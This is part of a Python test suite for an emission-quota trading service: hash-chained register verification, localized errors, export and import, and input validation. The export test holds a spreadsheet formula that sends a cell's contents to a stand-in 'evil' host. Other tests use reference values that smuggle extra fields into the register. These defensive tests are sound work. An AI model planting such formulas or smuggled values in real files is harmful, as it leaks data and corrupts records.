    runner = CliRunner()
    stale = runner.invoke(register_cli, ["verify", str(extract), "--against", str(whole)])
    said = _flat(stale.output)
    assert stale.exit_code == 2, stale.output
    assert "比摘录旧" in said and "olderthantheextract" in said and "broken" not in said
    # The same extract against today's register is intact.
    whole.write_text((await q.client.get("/quota/public/register?format=csv")).text, "utf-8")
    ok = runner.invoke(register_cli, ["verify", str(extract), "--against", str(whole)])
    assert ok.exit_code == 0, ok.output


async def test_a_csv_after_a_cursor_is_an_extract_not_a_broken_register(
    q: Quota, tmp_path: Path
) -> None:
    """`?format=csv&cursor=…` streams the chain after the cursor: its first
    entry's prev_hash is of an entry it leaves out, and it had no `#` lines,
    so `bureau register verify` called an untampered download broken (exit
    1, "prev_hash is not the previous entry's hash"). It is an extract
    (`# filter: after=N`), intact against the full register."""
    for pollutant in ("VOCs", "NOx", "COD"):
        r = await q.client.post(
            f"/quota/pools/{JIZHOU}/{pollutant}/baseline", json={"amount_t": "1"}, headers=ADMIN
        )
        assert r.status_code == 201, r.text
    await chain_pending(q.app.state.runtime.db)
    cursor = (await q.client.get("/quota/public/register?limit=1")).json()["next_cursor"]
    r = await q.client.get("/quota/public/register", params={"format": "csv", "cursor": cursor})
    assert 'filename="quota-register-extract.csv"' in r.headers["content-disposition"]
    assert r.text.splitlines()[1] == "# filter: after=1", r.text
    tail, whole = tmp_path / "tail.csv", tmp_path / "register.csv"
    tail.write_text(r.text, encoding="utf-8", newline="")
    full = (await q.client.get("/quota/public/register?format=csv")).text
    assert not full.startswith("#")
    whole.write_text(full, encoding="utf-8", newline="")
    runner = CliRunner()
    alone = runner.invoke(register_cli, ["verify", str(tail)])
    assert alone.exit_code == 2 and "筛选摘录不是完整登记簿" in _flat(alone.output), alone.output
    ok = runner.invoke(register_cli, ["verify", str(tail), "--against", str(whole)])
    assert ok.exit_code == 0 and "intact: 2 entries" in " ".join(ok.output.split()), ok.output


async def test_a_json_page_after_a_cursor_is_an_extract_not_a_broken_register(
    q: Quota, tmp_path: Path
) -> None:
    """A JSON page fetched with a cursor, saved and verified, was "broken at
    entry seq=3 … prev_hash is not the previous entry's hash" (exit 1, a
    tampered register's verdict) though untampered: its first entry's
    prev_hash is of the entry before the page. It is the extract of the
    entries after that one up to its last: alone, a usage error saying it is
    a page after a cursor (exit 2); against the full register, intact, and
    an entry of it changed is broken."""
    for district, pollutant in (
        (JIZHOU, "VOCs"),
        (JIZHOU, "NOx"),
        (JIZHOU, "COD"),
        (BINHAI, "NOx"),
    ):
        r = await q.client.post(
            f"/quota/pools/{district}/{pollutant}/baseline", json={"amount_t": "1"}, headers=ADMIN
        )
        assert r.status_code == 201, r.text
    await chain_pending(q.app.state.runtime.db)
    first = await q.client.get("/quota/public/register", params={"limit": 2})
    cursor = first.json()["next_cursor"]
    second = await q.client.get("/quota/public/register", params={"limit": 2, "cursor": cursor})
    assert [i["seq"] for i in second.json()["items"]] == ["3", "4"], second.text
    page1, page2, whole = tmp_path / "page1.json", tmp_path / "page2.json", tmp_path / "all.csv"
    page1.write_text(first.text, encoding="utf-8")
    page2.write_text(second.text, encoding="utf-8")
    whole.write_text((await q.client.get("/quota/public/register?format=csv")).text)
    head = second.json()["items"][-1]["hash"]

    runner = CliRunner()
    start = runner.invoke(register_cli, ["verify", str(page1)])  # from seq 1: a chain alone
    assert start.exit_code == 0, start.output
    alone = runner.invoke(register_cli, ["verify", str(page2)])
    said = _flat(alone.output)
    assert alone.exit_code == 2, alone.output
    assert "第2条之后的一页" in said and "afterentryseq=2,fetchedwithacursor" in said
    assert "--against" in said and "broken" not in said
    ok = runner.invoke(register_cli, ["verify", str(page2), "--against", str(whole)])
    assert ok.exit_code == 0, ok.output
    assert "intact: 2 entries" in " ".join(ok.output.split()) and head in ok.stdout
    # Verified against a page itself, not the full register: refused.
    page = runner.invoke(register_cli, ["verify", str(page2), "--against", str(page2)])
    assert page.exit_code == 2 and "apageafteracursor" in _flat(page.output), page.output
    changed = tmp_path / "changed.json"
    changed.write_text(second.text.replace('"1.000"', '"9.000"', 1), encoding="utf-8")
    bad = runner.invoke(register_cli, ["verify", str(changed), "--against", str(whole)])
    assert bad.exit_code == 1 and "differs" in bad.output, bad.output


async def test_an_extract_whose_first_lines_were_edited_is_refused_not_a_traceback(
    q: Quota, tmp_path: Path
) -> None:
    """An extract's `#` lines edited by hand: an `after` that is no number
    stopped `bureau register verify --against` with a ValueError traceback,
    and a head of seq=0 with any hash was "intact", printing that hash as
    the register's head. Both are refused now, saying why."""
    await q.baseline(JIZHOU, "1")
    await chain_pending(q.app.state.runtime.db)
    r = await q.client.get("/quota/public/register?format=csv&district=" + JIZHOU)
    whole = tmp_path / "register.csv"
    whole.write_text((await q.client.get("/quota/public/register?format=csv")).text)
    header = r.text.split("\r\n")
    edits = {
        "after.csv": (r.text.replace(f"district={JIZHOU}", f"district={JIZHOU};after=abc"), 2),
        "zero.csv": (
            "\r\n".join(
                [
                    "# filter: district=" + JIZHOU,
                    "# head: seq=0;hash=" + "ab" * 32,
                    next(line for line in header if line.startswith("seq,")),
                    "",
                ]
            ),
            1,
        ),
    }
    for name, (written, code) in edits.items():
        path = tmp_path / name
        path.write_text(written, encoding="utf-8", newline="")
        res = CliRunner().invoke(register_cli, ["verify", str(path), "--against", str(whole)])
        assert res.exit_code == code, (name, res.exception, res.output)
        said = _flat(res.output)
        assert "intact" not in said and ("afterisnotanumber" in said or "64zeros" in said)


async def test_the_registers_algorithm_is_said_in_the_callers_language(q: Quota) -> None:
    """`algorithm` describes how an entry's hash is computed: it was English
    under a zh-CN answer; it is said in the caller's language now (Chinese
    by default), the formula's names the same in both."""
    await q.baseline(JIZHOU, "10")
    await chain_pending(q.app.state.runtime.db)
    zh = await q.client.get("/quota/public/register", headers={"Accept-Language": "zh-CN"})
    assert zh.status_code == 200 and zh.headers["content-language"] == "zh-CN", zh.text
    assert zh.json()["algorithm"] == "sha256(prev_hash + '\\n' + 本条内容的规范化 JSON)；详见文档"
    en = await q.client.get("/quota/public/register", headers={"Accept-Language": "en"})
    assert en.json()["algorithm"] == (
        "sha256(prev_hash + '\\n' + canonical JSON of the content); see docs"
    )
    assert zh.json()["items"] == en.json()["items"]
    doc = (await q.client.get("/quota/openapi.json")).json()
    field = doc["components"]["schemas"]["RegisterPage"]["properties"]["algorithm"]
    assert "caller's language" in field["description"] and "default" not in field


async def test_export_round_trips_into_an_empty_ledger(
    q: Quota, db_url: str, tmp_path: Path
) -> None:
    owner = uscc("OWNERX1")
    # A note a spreadsheet would run: quoted in the CSV, text in the sheet,
    # and imported as written.
    formula = '=HYPERLINK("http://evil/?"&A1,"点我")'
    await q.baseline(JIZHOU, "12.5", note=formula)
    await testing.deliver(q.app, cancelled("PM-X", "3.25"))
    await confirm_all_pending(q)
    await allocate_to(q, "proj-x", "2.5", owner)
    await reserve(q, "proj-y", "1.25")
    await q.client.put(
        f"/quota/advance-limits/{JIZHOU}/VOCs",
        json={"limit_t": "5", "term_days": 30},
        headers=ADMIN,
    )
    await post(
        q,
        "/quota/reservations",
        {"district": JIZHOU, "increment_t": "4.5", "project_ref": "proj-z", "advance": True},
        ADMIN,
        201,
    )
    before = await q.availability(JIZHOU)
    assert before["debt_t"] == "0.750"
    lots_page = (await q.client.get("/quota/lots", headers=AUDITOR)).json()["items"]
    before_lots = [(lot["id"], lot["serial"]) for lot in lots_page]
    kind = "sqlite" if db_url.startswith("sqlite") else "pg"
    notes = sorted(
        str(e["note"])
        for e in (await q.client.get("/quota/journal?limit=500", headers=AUDITOR)).json()["items"]
    )
    assert formula in notes
    for fmt in ("csv", "xlsx"):
        r = await q.client.get(f"/quota/export?format={fmt}", headers=AUDITOR)
        assert r.status_code == 200, r.text
        if fmt == "csv":
            with zipfile.ZipFile(io.BytesIO(r.content)) as z:
                assert ",\"'" + formula.replace('"', '""') + '",' in z.read("journal.csv").decode()
        else:
            from openpyxl import load_workbook

            book = load_workbook(io.BytesIO(r.content))
            assert not [
                c
                for ws in book.worksheets
                for row in ws.iter_rows()
                for c in row
                if c.data_type == "f"
            ]
        async with testing.database_url(kind, tmp_path, prefix="imp") as url:
            app = create(Settings(database_url=url, log_json=False, hold_sweep_seconds=3600))
            async with testing.running(app) as client:
                imp = await client.post(
                    f"/quota/import?format={fmt}", content=r.content, headers=ADMIN
                )
                assert imp.status_code == 200, imp.text
                assert (imp.json()["lots"], imp.json()["holdings"], imp.json()["debts"]) == (
                    3,
                    1,
                    1,
                )
                again = await client.post(
                    f"/quota/import?format={fmt}", content=r.content, headers=ADMIN
                )
                assert again.status_code == 409
                copy = Quota(app, client)
                assert await copy.availability(JIZHOU) == before
                rec = (await client.get("/quota/reconciliation", headers=AUDITOR)).json()
                assert rec["ok"], rec
                journal = await client.get("/quota/journal?limit=500", headers=AUDITOR)
                assert sorted(str(e["note"]) for e in journal.json()["items"]) == notes
                # Key sequences follow the imported rows: new lots and entries fit.
                await copy.baseline(JIZHOU, "1")
                more = await reserve(copy, "proj-after", "0.1")
                assert more["lots"][0][0] > max(lot for lot, _ in before_lots)


async def test_refusals_speak_chinese_by_default(q: Quota) -> None:
    await q.baseline(JIZHOU, "1")
    zh = {"Accept-Language": "zh-CN"}
    r = await q.client.post(
        "/quota/reservations",
        json={"district": JIZHOU, "increment_t": "1", "project_ref": "P-zh"},
        headers={**OFFICER, **zh},
    )
    assert r.status_code == 409 and "缺口 1.000 吨" in r.json()["detail"]
    trade = {
        "seller": uscc("ZHSELL1"),
        "buyer": uscc("ZHBUY22"),
        "district": JIZHOU,
        "amount_t": "1",
        "price_cny_per_t": "1",
        "contract_ref": "ZH-1",
    }
    r = await q.client.post("/quota/trades", json=trade, headers={**OFFICER, **zh})
    assert r.status_code == 409 and r.json()["reason"] == "seller_holds_too_little"
    assert "卖方" in r.json()["detail"]
    r = await q.client.post(
        f"/quota/pools/{JIZHOU}/NO2/baseline", json={"amount_t": "1"}, headers={**ADMIN, **zh}
    )
    assert r.status_code == 422 and "总量控制污染物" in r.json()["detail"]


async def test_availability_gives_each_district_the_ratio_in_force(q: Quota) -> None:
    """All sixteen districts' ratios are read in two statements: each must
    still be its own district's, as a reservation there gets it (its own
    statement computes the ratio in SQL): an explicit ratio, a policy that
    follows the air quality, the air quality in force, the default; and a
    water pollutant never follows the air."""
    baodi, hebei, wuqing = "120115", "120105", "120114"
    settings = [
        (JIZHOU, {"offset_ratio": "1.2", "hold_days": 90}),  # explicit: wins over the air
        (wuqing, {"offset_ratio": "1.7", "hold_days": 90}),
        (wuqing, {"hold_days": 60}),  # later: follows the air quality again
    ]
    for district, body in settings:
        r = await q.client.put(f"/quota/settings/{district}/VOCs", json=body, headers=ADMIN)
        assert r.status_code == 200, r.text
    for status, ratio in [("exceeded", "2.5"), ("severely_exceeded", "3")]:
        r = await q.client.put(
            f"/quota/air-quality-ratios/{status}", json={"offset_ratio": ratio}, headers=ADMIN
        )
        assert r.status_code == 200, r.text
    for district, status in [
        (BINHAI, "exceeded"),
        (baodi, "exceeded"),
        (baodi, "severely_exceeded"),  # the later status is the one in force
        (JIZHOU, "severely_exceeded"),
        (wuqing, "exceeded"),
    ]:
        r = await q.client.put(
            f"/quota/air-quality/{district}", json={"status": status}, headers=ADMIN
        )
        assert r.status_code == 200, r.text

    async def ratios(pollutant: str) -> dict[str, str]:
        r = await q.client.get(f"/quota/availability?pollutant={pollutant}", headers=INVESTMENT)
        assert r.status_code == 200, r.text
        return {p["district"]: p["offset_ratio"] for p in r.json() if p["kind"] == "district"}

    vocs, cod = await ratios("VOCs"), await ratios("COD")
    assert len(vocs) == len(cod) == 16
    expected = {JIZHOU: "1.20", BINHAI: "2.50", baodi: "3.00", wuqing: "2.50"}
    assert {d: vocs[d] for d in expected} == expected
    default = vocs[hebei]
    assert default not in expected.values()
    assert set(cod.values()) == {default}  # COD: only JIZHOU's own setting is for VOCs
    one = (await q.client.get(f"/quota/availability?district={baodi}", headers=INVESTMENT)).json()
    assert [p["offset_ratio"] for p in one] == ["3.00"]
    # Every district against the reservation path's own statement.
    for n, (district, ratio) in enumerate(sorted(vocs.items())):
        await post(q, f"/quota/pools/{district}/VOCs/baseline", {"amount_t": "10"}, ADMIN, 201)
        body = {"district": district, "increment_t": "1", "project_ref": f"R-{n}"}
        held = await post(q, "/quota/reservations", body, ADMIN, 201)
        assert held["offset_ratio"] == ratio, district


async def test_a_trades_contract_reference_is_published_as_its_digest(q: Quota) -> None:
    """A contract's reference is typed by hand: the register shows its
    digest, so a reference holding `;buyer=…` names no other buyer and one
    holding a name or a telephone number publishes neither."""
    seller, buyer = uscc("SELLER7"), uscc("BUYER77")
    await q.baseline(JIZHOU, "20")
    await allocate_to(q, "proj-c", "3", seller)
    contract = "HT-1;buyer=91120116000000001X;buyer_district=120101 经办人张三 13800138001"
    trade = {
        "seller": seller,
        "buyer": buyer,
        "district": JIZHOU,
        "amount_t": "1",
        "price_cny_per_t": "100",
        "contract_ref": contract[:100],
    }
    r = await q.client.post("/quota/trades", json=trade, headers=OFFICER)
    assert r.status_code == 201, r.text
    await post(q, f"/quota/trades/{r.json()['id']}/approve", None, OFFICER2)
    await chain_pending(q.app.state.runtime.db)
    r = await q.client.get("/quota/public/register", params={"limit": 500})
    (settled,) = [e for e in r.json()["items"] if e["kind"] == "trade_settled"]
    pairs = dict(p.split("=", 1) for p in settled["refs"].split(";"))
    assert (pairs["buyer"], pairs["seller"]) == (buyer, seller), settled["refs"]
    assert pairs["contract_sha256"] == hashlib.sha256(contract[:100].encode()).hexdigest()
    assert "13800138001" not in r.text and "张三" not in r.text


async def test_a_trades_contract_reference_is_one_its_holder_can_match(q: Quota) -> None:
    """The register shows the reference's digest for whoever holds the
    contract to match: " HT-1", "HT\u200b-1" or a blank one were taken,
    published as the digest of what no contract says."""
    seller, buyer = uscc("SELLER8"), uscc("BUYER88")
    await q.baseline(JIZHOU, "20")
    await allocate_to(q, "proj-d", "3", seller)
    trade = {
        "seller": seller,
        "buyer": buyer,
        "district": JIZHOU,
        "amount_t": "1",
        "price_cny_per_t": "100",
    }
    for ref in (" ", "\u200b", " HT-1", "HT-1\u3000", "HT\u200b-1", "HT-1\u2060"):
        r = await q.client.post(
            "/quota/trades",
            json={**trade, "contract_ref": ref},
            headers={**OFFICER, "accept-language": "zh-CN"},
        )
        assert r.status_code == 422, (ref, r.text)
        assert r.headers["content-type"].startswith("application/problem+json")
        (error,) = r.json()["errors"]
        assert error["field"] == "contract_ref" and "编号" in error["message"], r.text
    r = await q.client.post(
        "/quota/trades", json={**trade, "contract_ref": "HT-1 补充协议"}, headers=OFFICER
    )
    assert r.status_code == 201, r.text


async def test_a_manual_reclaim_s_permit_is_an_id_not_a_text_published(q: Quota) -> None:
    """A manual reclaim's `permit_id` went to the public register as typed
    (`permit=经办人张三 13800138001`), for good in its hash chain: text typed
    by hand, a name and a telephone number with it. It is an id now."""
    await q.baseline(JIZHOU, "20")
    body = {"district": JIZHOU, "amount_t": "1", "source": "manual", "note": "关停"}
    for permit in ("经办人张三 13800138001", "PM 1", " PM-1", "PM-1;buyer=x", "-PM", "x" * 65):
        r = await q.client.post(
            "/quota/reclaims",
            json={**body, "permit_id": permit},
            headers={**OFFICER, "accept-language": "zh-CN"},
        )
        assert r.status_code == 422, (permit, r.text)
        assert r.headers["content-type"].startswith("application/problem+json")
        assert [e["field"] for e in r.json()["errors"]] == ["permit_id"], r.text
    r = await q.client.get("/quota/reclaims", params={"district": JIZHOU}, headers=OFFICER)
    assert r.json()["items"] == []
    permit = "3f2b8c1e-5d4a-4e0b-9c7d-2a1b0c9d8e7f"
    made = await post(q, "/quota/reclaims", {**body, "permit_id": permit}, OFFICER, 201)
    await post(q, f"/quota/reclaims/{made['id']}/confirm", None, OFFICER2)
    await chain_pending(q.app.state.runtime.db)
    r = await q.client.get("/quota/public/register", params={"limit": 500})
    (entry,) = [e for e in r.json()["items"] if e["kind"] == "reclaim_confirmed"]
    assert f"permit={permit}" in entry["refs"]


def test_a_reference_value_reads_as_one_value() -> None:
    from quota_svc.register import rules as register_rules

    text = register_rules.refs_text(project="a;b=c%d", trade="t-1")
    assert text == "project=a%3Bb%3Dc%25d;trade=t-1"
    assert dict(p.split("=", 1) for p in text.split(";")) == {
        "project": "a%3Bb%3Dc%25d",
        "trade": "t-1",
    }
